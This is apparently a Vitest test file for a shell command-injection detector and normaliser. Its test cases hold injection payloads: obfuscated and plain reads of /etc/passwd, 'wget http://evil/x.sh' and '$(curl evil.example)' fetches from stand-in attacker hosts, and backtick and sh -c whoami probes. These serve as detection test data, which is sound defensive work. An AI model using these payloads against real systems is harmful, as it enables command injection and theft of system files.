import { describe, expect, it } from "vitest";
import { detectUnixCommand } from "./detect.ts";
import { normalizeShell } from "./normalize-shell.ts";

describe("normalizeShell", () => {
  it("undoes quote, escape and IFS splicing", () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell ${IFS} payload, not a template
    expect(normalizeShell("c'a't${ifs}/etc/pa\\sswd")).toBe("cat /etc/passwd");
  });
});

describe("detectUnixCommand", () => {
  it.each([
    ";id",
    "| cat /etc/passwd",
    "x && wget http://evil/x.sh",
    "`whoami`",
    "$(curl evil.example)",
    "a;c''at /e*/passwd",
    "time sh -c whoami",
  ])("flags %s", (payload) => {
    expect(detectUnixCommand(payload)).not.toBeNull();
  });

  it.each([
    "ping pong tables",
    "cat pictures are cute",
    "yes; more later please",
    "hello world (test)",
    "Axel Smith",
    "find my bonus",
  ])("leaves %s alone", (text) => {
    expect(detectUnixCommand(text.toLowerCase())).toBeNull();
  });
});
